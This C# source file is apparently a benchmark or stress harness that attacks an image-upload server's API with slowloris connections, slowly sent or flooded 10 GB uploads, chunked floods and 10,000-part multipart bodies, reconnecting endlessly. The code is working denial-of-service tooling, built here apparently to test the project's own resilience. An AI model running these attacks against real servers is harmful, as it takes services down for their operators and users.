using System.Net.Sockets;
using System.Text;

namespace Piton.Benchmarks;

/// <summary>Sends slow and huge requests to a server until it is ended.</summary>
internal static class Attacker
{
    public const string Slowloris = "slowloris";
    public const string Declared = "declared";
    public const string Chunked = "chunked";
    public const string Lying = "lying";
    public const string Parts = "parts";

    private const long TenGigabytes = 10_000_000_000;
    private const int SlowConnections = 1000;
    private const int LyingConnections = 100;
    private static readonly TimeSpan Tick = TimeSpan.FromSeconds(1);
    private static readonly byte[] Filling = new byte[256 * 1024];

    public static async Task<int> RunAsync(string kind, Uri server, string token)
    {
        var connections = kind switch { Slowloris => SlowConnections, Lying => LyingConnections, _ => 1 };
        await Task.WhenAll(Enumerable.Range(0, connections).Select(_ => Task.Run(() => AgainAndAgainAsync(kind, server, token))));
        return 0;
    }

    private static async Task AgainAndAgainAsync(string kind, Uri server, string token)
    {
        while (true)
        {
            try
            {
                using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
                await socket.ConnectAsync(server.Host, server.Port);
                await SendAsync(kind, socket, token);
            }
            catch (SocketException)
            {
                // Hung up on: once more.
            }
        }
    }

    private static Task SendAsync(string kind, Socket socket, string token)
    {
        var upload = $"POST /api/v1/images HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nContent-Type: multipart/form-data; boundary=b\r\n";
        const string File = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.jpg\"\r\n\r\n";
        return kind switch
        {
            Slowloris => TrickleAsync(socket, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "),
            Lying => TrickleAsync(socket, $"{upload}Content-Length: {TenGigabytes}\r\n\r\n{File}"),
            Declared => FloodAsync(socket, $"{upload}Content-Length: {TenGigabytes}\r\n\r\n{File}", Filling),
            Chunked => FloodAsync(socket, $"{upload}Transfer-Encoding: chunked\r\n\r\n{File.Length:x}\r\n{File}\r\n", [.. Bytes($"{Filling.Length:x}\r\n"), .. Filling, .. Bytes("\r\n")]),
            Parts => PartsAsync(socket, upload),
            _ => throw new ArgumentOutOfRangeException(nameof(kind), kind, "There is no such attack."),
        };
    }

    private static async Task TrickleAsync(Socket socket, string head)
    {
        await socket.SendAsync(Bytes(head));
        while (true)
        {
            await Task.Delay(Tick);
            await socket.SendAsync(Bytes("x"));
        }
    }

    private static async Task FloodAsync(Socket socket, string head, byte[] filling)
    {
        await socket.SendAsync(Bytes(head));
        for (var sent = 0L; sent < TenGigabytes; sent += filling.Length)
        {
            await socket.SendAsync(filling);
        }
    }

    private static async Task PartsAsync(Socket socket, string upload)
    {
        var body = string.Concat(Enumerable.Repeat("--b\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx\r\n", 10_000)) + "--b--\r\n";
        await socket.SendAsync(Bytes($"{upload}Content-Length: {body.Length}\r\nConnection: close\r\n\r\n{body}"));
        var answer = new byte[4096];
        while (await socket.ReceiveAsync(answer) > 0)
        {
        }
    }

    private static byte[] Bytes(string text) => Encoding.ASCII.GetBytes(text);
}
